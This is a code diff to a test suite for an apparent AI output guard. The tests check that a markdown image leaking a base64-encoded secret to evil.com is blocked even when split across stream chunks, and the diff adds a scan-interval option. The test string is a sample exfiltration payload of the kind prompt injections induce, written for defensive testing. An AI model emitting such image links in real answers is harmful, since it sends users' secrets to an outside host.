@@ -258,7 +258,10 @@ describe('exfiltration', () => {
     const match = `![x](https://evil.com/c?d=${SECRET_B64.slice(0, 24)})`;
     const text = `${filler}${match} and the rest of the answer.`;
 
-    async function stream(pieces: string[]): Promise<{ chunks: string[]; verdict: Verdict | undefined }> {
+    async function stream(
+      pieces: string[],
+      scanEvery = 0,
+    ): Promise<{ chunks: string[]; verdict: Verdict | undefined }> {
       const guard = createGuard({
         output: [exfiltration(ALLOW)],
         policy: {
@@ -268,18 +271,26 @@ describe('exfiltration', () => {
       });
       const chunks: string[] = [];
       let verdict: Verdict | undefined;
-      for await (const chunk of guard.scanStream(pieces, { onVerdict: (value) => (verdict = value) }))
+      for await (const chunk of guard.scanStream(pieces, { scanEvery, onVerdict: (value) => (verdict = value) }))
         chunks.push(chunk);
       return { chunks, verdict };
     }
 
-    for (const count of [2, 3, 10]) {
-      it(`blocks an image split across ${count} chunks before any of it is released`, async () => {
+    // scanEvery 32: one scan per 32 releasable characters instead of per chunk, same safety margin.
+    for (const [count, scanEvery] of [
+      [2, 0],
+      [3, 0],
+      [10, 0],
+      [2, 32],
+      [3, 32],
+      [10, 32],
+    ] as const) {
+      it(`blocks an image split across ${count} chunks before any of it is released (scanEvery ${scanEvery})`, async () => {
         const parts = Array.from({ length: count }, (_, i) =>
           match.slice(Math.floor((i * match.length) / count), Math.floor(((i + 1) * match.length) / count)),
         );
         expect(parts).toHaveLength(count);
-        const { chunks, verdict } = await stream([filler, ...parts, ' and the rest of the answer.']);
+        const { chunks, verdict } = await stream([filler, ...parts, ' and the rest of the answer.'], scanEvery);
         expect(chunks.at(-1)).toBe('FB');
         const delivered = chunks.slice(0, -1).join('');
         expect(text.startsWith(delivered)).toBe(true);
